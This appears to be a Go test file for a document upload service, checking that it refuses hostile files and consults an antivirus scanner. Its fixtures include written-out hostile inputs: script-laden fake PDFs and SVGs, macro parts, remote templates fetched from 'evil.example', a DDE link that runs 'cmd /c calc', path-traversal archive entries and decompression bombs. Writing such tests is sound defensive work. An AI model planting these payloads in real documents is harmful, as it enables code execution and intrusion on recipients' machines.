package document_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"log/slog"
	"runtime"
	"strings"
	"testing"

	"gsl/app/document"
	"gsl/app/kit/fault"
)

// refusedFor gives the key of why a file was not kept, "" for one that was.
func (r *room) refusedFor(name string, body []byte) string {
	r.t.Helper()
	_, err := r.arrive(name, body)
	var f *fault.Error
	switch {
	case err == nil:
		return ""
	case errors.As(err, &f) && len(f.Fields) == 1:
		return f.Fields[0].Key
	}
	return err.Error()
}

// webp is the head of a WebP of the kind ' ', 'L' or 'X' with the measures.
func webp(kind byte, w, h int) []byte {
	body := make([]byte, 40)
	copy(body, "RIFF\x20\x00\x00\x00WEBPVP8")
	body[15] = kind
	switch kind {
	case ' ':
		binary.LittleEndian.PutUint16(body[26:], uint16(w))
		binary.LittleEndian.PutUint16(body[28:], uint16(h))
	case 'L':
		binary.LittleEndian.PutUint32(body[21:], uint32(w-1)|uint32(h-1)<<14)
	case 'X':
		for i := range 3 {
			body[24+i], body[27+i] = byte((w-1)>>(8*i)), byte((h-1)>>(8*i))
		}
	}
	return body
}

// What a file is made of to do harm, and what becomes of it.
func TestHostileFilesAreRefused(t *testing.T) {
	r := newRoom(t)
	types := func(text string) []byte {
		return packed("[Content_Types].xml", "<Types>"+strings.Repeat(" ", 40_000)+`<Override ContentType="`+text+`"/></Types>`, "word/document.xml", "x")
	}
	for _, test := range []struct {
		what, name string
		body       []byte
		want       string
	}{
		{"a page that says it is a PDF", "x.pdf", []byte("<!doctype html><script>fetch('/')</script>%PDF-1.7\n%%EOF"), "document.error.kind"},
		{"a PDF that is a page too", "x.html", append(paper(100), "<script>alert(1)</script>"...), "document.error.name"},
		{"a program", "foto.jpg.exe", []byte("MZ\x90\x00\x03\x00\x00\x00"), "document.error.kind"},
		{"a drawing with a program", "logo.svg", []byte(`<svg onload="alert(1)"/>`), "document.error.kind"},
		{"macros by their name", "a.docx", packed("word/document.xml", "x", "word/VBAProject.BIN", "x"), "document.error.macros"},
		{"macros under another name", "a.docx", types(`application/vnd.ms-office.vbaProject" PartName="/word/tema.bin`), "document.error.macros"},
		{"a type for macros", "a.docx", types(`application/vnd.ms-word.document.macroEnabled.main+xml`), "document.error.macros"},
		{"old macros of a workbook", "a.xlsx", packed("xl/workbook.xml", "x", "xl/macrosheets/sheet1.xml", "x"), "document.error.macros"},
		{"controls", "a.docx", packed("word/document.xml", "x", "word/activeX/activeX1.xml", "x"), "document.error.macros"},
		{"a template from elsewhere", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels",
			`<Relationship Type="http://schemas/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), "document.error.macros"},
		{"a template from elsewhere, said otherwise", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels",
			`<Relationship Target='\\evil.example\t.dotm' TargetMode='External' Type='http://schemas/officeDocument/2006/relationships/attachedTempl&#97;te'/>`), "document.error.macros"},
		{"a list that is no UTF-8", "a.docx", packed("word/document.xml", "x", "word/_rels/settings.xml.rels", "\xff\xfe<\x00R\x00/\x00>\x00"), "document.error.damaged"},
		{"a type for macros, said otherwise", "a.docx", types(`application/vnd.ms-word.document.macro&#69;nabled.main+xml`), "document.error.macros"},
		{"a workbook that starts a program", "a.xlsx", packed("xl/workbook.xml", "x", "xl/externalLinks/externalLink1.xml", `<ddeLink ddeService="cmd" ddeTopic="/c calc"/>`), "document.error.macros"},
		{"a program inside", "a.docx", packed("word/document.xml", "x", "word/embeddings/factura.PDF.exe", "MZ"), "document.error.macros"},
		{"programs of OpenDocument", "a.odt", packed("mimetype", document.Odt, "Basic/Standard/Module1.xml", "x"), "document.error.macros"},
		{"a path that leads out", "a.docx", packed("word/document.xml", "x", "../../etc/cron.d/x", "x"), "document.error.damaged"},
		{"an absolute path", "a.docx", packed("word/document.xml", "x", "/etc/passwd", "x"), "document.error.damaged"},
		{"a path of Windows", "a.docx", packed("word/document.xml", "x", `..\..\x`, "x"), "document.error.damaged"},
		{"a vast picture", "a.webp", webp('X', 1<<24, 1<<24), "document.error.bomb"},
		{"a vast picture without loss", "a.webp", webp('L', 1<<14, 1<<14), "document.error.bomb"},
		{"a picture without measures", "a.webp", webp(' ', 0, 7), "document.error.damaged"},
		{"a picture that breaks off", "a.webp", webp(' ', 8, 8)[:30], "document.error.damaged"},
		{"an honest picture", "a.webp", webp('X', 4000, 3000), ""},
		{"an honest letter", "a.docx", types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), ""},
	} {
		if got := r.refusedFor(test.name, test.body); got != test.want {
			t.Errorf("%s: %q, want %q", test.what, got, test.want)
		}
	}
}

// A list of so many parts that reading it would fill the memory.
func TestAnEndlessListOfPartsIsNotRead(t *testing.T) {
	r := newRoom(t)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for range 250_000 {
		if _, err := w.CreateRaw(&zip.FileHeader{Name: "a"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	got := r.refusedFor("a.docx", b.Bytes())
	runtime.ReadMemStats(&after)
	if took := (after.TotalAlloc - before.TotalAlloc) >> 20; got != "document.error.bomb" || took > 60 {
		t.Errorf("%q, %d MB", got, took)
	}
}

// The antivirus is asked about every file: what it finds, and what it could not
// look at, is not kept; where files are taken all the same, the paper says so.
func TestTheAntivirusIsAsked(t *testing.T) {
	r := newRoom(t)
	trouble := error(nil)
	r.service.Scanner = &document.Scanner{Log: slog.New(slog.DiscardHandler), Look: func(_ context.Context, file io.Reader) (string, error) {
		body, err := io.ReadAll(file)
		if err != nil || !bytes.HasPrefix(body, []byte("%PDF-")) {
			t.Errorf("it got %d bytes: %v", len(body), err)
		}
		if bytes.Contains(body, []byte("EICAR")) {
			return "Win.Test.EICAR_HDB-1", nil
		}
		return "", trouble
	}}
	if got := r.refusedFor("malo.pdf", append([]byte("%PDF-1.7 EICAR"), paper(100)...)); got != "document.error.infected" {
		t.Errorf("something was found: %q", got)
	}
	if d := r.attach("bueno.pdf", paper(100)); d.Scan != document.Clean {
		t.Errorf("a clean paper is %q", d.Scan)
	}
	trouble = errors.New("clamd: no answer")
	if got := r.refusedFor("carta.pdf", paper(200)); got != "document.error.unscanned" {
		t.Errorf("nobody looked: %q", got)
	}
	if n := r.count(`SELECT count(*) FROM content`); n != 1 {
		t.Errorf("%d contents are kept", n)
	}
	r.service.Scanner.Lenient = true
	if d := r.attach("carta.pdf", paper(200)); d.Scan != document.Missed {
		t.Errorf("a paper that nobody looked at is %q", d.Scan)
	}
}
